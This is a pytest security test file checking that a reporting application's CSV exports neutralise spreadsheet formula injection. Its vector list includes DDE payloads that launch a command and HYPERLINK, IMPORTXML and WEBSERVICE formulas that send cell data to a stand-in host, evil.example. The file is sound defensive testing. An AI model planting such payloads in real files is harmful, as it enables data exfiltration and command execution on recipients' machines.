"""No cell of a file that we give is run by whoever opens it (S23)."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import unicodedata
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from rest_framework.serializers import Serializer

from msa.web.spreadsheets import inert
from reporting.cells import CellDraft
from reporting.funders.api import serializers
from reporting.funders.api.renderers import Csv
from reporting.models import Report
from reporting.presenting.csv import HEADER, render_csv
from reporting.specs import SPECS
from tests.security.conftest import EXHAUSTIVE

_PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/"&A1,"Open")',
    'IMPORTXML("https://evil.example/","//a")',
    "SUM(1;2)",
    'WEBSERVICE("https://evil.example/"&B2)',
    'DDE("cmd";"/C calc";"x")',
)
_SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "|",
    "%",
    "＝",
    "＋",
    "－",
    "＠",
    "﹦",
    "﹢",
    "﹣",
    "﹫",
    "−",
)
_BEFORE = (
    *("", " ", "  ", "\t", "\r", "\n", "\r\n", "\0", "\xa0", "\u2003", "\u200b"),
    *("\ufeff", '"', "'", '""', "''", '" ', "\u201c", "`", "\x0b", "\x1f", "\u2028"),
)
VECTORS = [
    f"{before}{sign}{text}"
    for before in _BEFORE
    for sign in _SIGNS
    for text in _PAYLOADS
]
#: Words that people write and that must come out as they are.
HARMLESS = (
    "Tōtara",
    "a = b",
    "1-2",
    "",
    "O'Neill",
    '"Kia ora"',
    "c",
    "—",
    "3%",
    "\u2026",
)


def taken(cell: str) -> str:
    """Return how a careless spreadsheet program looks at a cell: trimmed and folded."""
    folded = unicodedata.normalize("NFKC", cell).replace("\N{MINUS SIGN}", "-")
    shown = (
        sign
        for sign in folded
        if unicodedata.category(sign) not in {"Cc", "Cf", "Zs", "Zl", "Zp"}
    )
    return "".join(shown).strip('"`\u201c\u201d')


def is_run(cell: str) -> bool:
    """Would a program run this cell? An apostrophe in front says that it is text."""
    try:
        Decimal(cell)
        return False  # a number
    except ArithmeticError:
        pass
    return taken(cell)[:1] in {"=", "+", "-", "@", "|", "%"} or cell[:1] in "\t\r\n\0"


def cells_of(file: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.removeprefix("\ufeff"), newline="")))


@pytest.mark.req("S23")
def test_the_reader_of_this_test_would_run_them() -> None:
    # Quotes in front are taken for text by every program; the rest is run by one.
    quoted = {vector for vector in VECTORS if vector[0] == "'"}

    assert len(VECTORS) > 2_000
    assert [vector for vector in VECTORS if not is_run(vector)] == [
        vector for vector in VECTORS if vector in quoted
    ]
    assert not any(is_run(word) for word in HARMLESS if word)


@pytest.mark.req("S23")
def test_no_vector_stays_active() -> None:
    assert [v for v in VECTORS if is_run(str(inert(v)))] == []
    assert [inert(word) for word in HARMLESS] == list(HARMLESS)
    assert inert(Decimal("-0.2")) == Decimal("-0.2")


ROWS = [
    serializers.ReportRow,
    serializers.TableRow,
    serializers.FigureRow,
    serializers.PassageRow,
    serializers.DefinitionRow,
    serializers.OrganisationRow,
]


class View:
    """What the renderer asks of a view."""

    def __init__(self, columns: list[str]) -> None:
        self.columns = columns


def by_interface(columns: list[str], rows: list[dict[str, Any]]) -> list[list[str]]:
    file = Csv().render({"results": rows}, None, {"view": View(columns)})
    return cells_of(file.decode())


@pytest.mark.req("S23", "REP-09")
@pytest.mark.parametrize("row", ROWS, ids=lambda row: row.__name__)
def test_no_column_of_the_interface_is_run(row: type[Serializer[Any]]) -> None:
    columns = list(row().fields)
    vectors = VECTORS if EXHAUSTIVE else VECTORS[::3]
    rows: list[dict[str, Any]] = [dict.fromkeys(columns, vector) for vector in vectors]
    # A list of words in one cell begins with its first.
    rows += [{column: [vector, "b"] for column in columns} for vector in vectors[:50]]

    read = by_interface(columns, rows)

    assert read[0] == columns
    assert len(read) == 1 + len(rows)
    assert [cell for line in read[1:] for cell in line if is_run(cell)] == []


@pytest.mark.req("S23")
def test_every_shape_of_the_interface_is_here() -> None:
    shapes = {
        shape
        for shape in vars(serializers).values()
        if isinstance(shape, type)
        and issubclass(shape, Serializer)
        and shape.__module__ == serializers.__name__
    }

    # These are never given as CSV: one is a single word of ours, one is a problem.
    rest = {serializers.HealthRow, serializers.ProblemShape}
    assert shapes - rest == set(ROWS)


@dataclass(frozen=True)
class Told:
    """A report of one figure, in which every word that is not ours is a vector."""

    reference: str
    report: Report
    cells: list[CellDraft]


@pytest.mark.req("S23")
def test_no_column_of_a_report_file_is_run() -> None:
    spec, table = next((code, one.tables[0]) for code, one in SPECS.items())
    report = Report(spec=spec, quarter="2026Q3", kind="OPERATIONAL")
    place = (table.code, "ALL", table.columns[0].code, 0)

    for vector in VECTORS if EXHAUSTIVE else VECTORS[::7]:
        told: Any = Told(vector, report, [CellDraft(*place, vector, "ok", 3)])
        (header, line) = cells_of(render_csv(told).decode())
        assert tuple(header) == HEADER
        assert [cell for cell in line if is_run(cell)] == []
        assert sum(vector in cell for cell in line) == 2


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.req("S23")
@pytest.mark.skipif(
    not (EXHAUSTIVE and SOFFICE), reason="exhaustive, where LibreOffice is installed"
)
def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    control, ours = tmp_path / "control.csv", tmp_path / "ours.csv"
    with control.open("w", newline="") as plain:
        csv.writer(plain).writerows([[vector] for vector in VECTORS])
    columns = list(serializers.PassageRow().fields)
    rows = [dict.fromkeys(columns, vector) for vector in VECTORS]
    ours.write_bytes(Csv().render({"results": rows}, None, {"view": View(columns)}))

    found = {}
    for file in (control, ours):
        subprocess.run(
            [
                *(
                    str(SOFFICE),
                    "--headless",
                    f"-env:UserInstallation=file://{tmp_path}/o",
                ),
                *("--convert-to", "fods", "--outdir", str(tmp_path), str(file)),
            ],
            check=True,
            capture_output=True,
            timeout=300,
        )
        told = file.with_suffix(".fods").read_text(errors="replace")
        found[file.stem] = told.count("table:formula=")

    assert found["control"] > 0
    assert found["ours"] == 0
